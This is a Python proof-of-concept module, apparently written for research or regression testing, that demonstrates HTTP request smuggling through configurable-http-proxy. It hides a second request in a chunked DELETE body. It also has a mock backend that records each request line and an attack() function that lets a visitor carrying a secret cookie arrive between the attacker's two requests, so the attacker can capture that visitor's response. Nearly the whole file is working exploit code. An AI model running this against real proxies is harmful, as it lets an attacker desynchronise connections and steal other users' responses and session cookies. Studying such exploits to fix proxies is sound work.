"""Send a request that hides another one in its body, and see what a backend and a second visitor get.

The body of a DELETE with `Transfer-Encoding: chunked` is a request of its own. configurable-http-proxy writes
`Content-Length: 0` above such a body and keeps the connection to the backend, which reads the body as the next request.
"""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Any

HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: x\r\n\r\n"
METHODS = ("DELETE", "OPTIONS", "GET", "POST")
SLOW = 1.0  # seconds that the backend takes for /hidden and /visitor, so that the attacker's second request waits


class Backend:
    """A server that keeps its connections open and notes each request line that it reads."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):  # closed at the end
            while True:
                threading.Thread(target=self._serve, args=[self._socket.accept()[0]], daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        with connection, suppress(OSError, ValueError), connection.makefile("rb") as read:
            while line := read.readline().decode().strip():
                headers = dict(_headers(read))
                length = int(headers.get("content-length", 0))
                chunked = "chunked" in headers.get("transfer-encoding", "")
                body = b"".join(_chunks(read)) if chunked else read.read(length)
                self.seen.append(line)
                if any(each in line for each in ("/hidden", "/visitor")):
                    time.sleep(SLOW)
                said = f"answer to {line.split()[1]} with {headers.get('cookie', 'no cookie')}, {len(body)} bytes"
                head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(said)}\r\n\r\n"
                connection.sendall((head + said).encode())

    def close(self) -> None:
        """Stop listening."""
        self._socket.close()


def _headers(read: Any) -> Iterator[tuple[str, str]]:
    while line := read.readline().decode().strip():
        name, _, value = line.partition(":")
        yield name.lower(), value.strip()


def _chunks(read: Any) -> Iterator[bytes]:
    while size := int(read.readline(), 16):
        yield read.read(size)
        read.readline()
    read.readline()


@contextmanager
def backend() -> Iterator[Backend]:
    """Keep a backend for the length of a block."""
    made = Backend()
    try:
        yield made
    finally:
        made.close()


def request(port: int, method: str, path: str, body: bytes = b"", tls: bool = False, more: str = "") -> str:
    """Send one request, with a chunked body if there is one, and return the answer's body."""
    head = f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{more}"
    if body:
        head += "Transfer-Encoding: chunked\r\n"
    plain = socket.create_connection(("127.0.0.1", port), timeout=30)
    context = ssl._create_unverified_context()
    with plain, context.wrap_socket(plain) if tls else plain as connection:
        connection.sendall(f"{head}\r\n".encode())
        if body:
            time.sleep(0.2)  # nginx decides about the request before it knows how long the body is
            connection.sendall(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))
        with connection.makefile("rb") as read:
            status = read.readline().decode()
            headers = dict(_headers(read))
            if "content-length" in headers:
                return read.read(int(headers["content-length"])).decode()
            return "".join(chunk.decode() for chunk in _chunks(read)) if status else "closed"


def attack(port: int, method: str, tls: bool = False, more: str = "") -> list[str]:
    """Smuggle a request, let a visitor come, and ask again as the attacker.

    Returns:
        The answers to the attacker's first request, to the visitor, and to the attacker's second request.

    """
    answers = ["", "", ""]

    def ask(turn: int, *words: str) -> None:
        with suppress(OSError):
            answers[turn] = request(port, *words, tls=tls, more="Cookie: secret\r\n" if turn == 1 else "")

    with suppress(OSError):
        answers[0] = request(port, method, "/attacker", HIDDEN, tls=tls, more=more)
    visitor = threading.Thread(target=ask, args=[1, "GET", "/visitor"])
    again = threading.Thread(target=ask, args=[2, "GET", "/attacker-again"])
    visitor.start()
    time.sleep(SLOW / 4)
    again.start()
    visitor.join()
    again.join()
    return answers
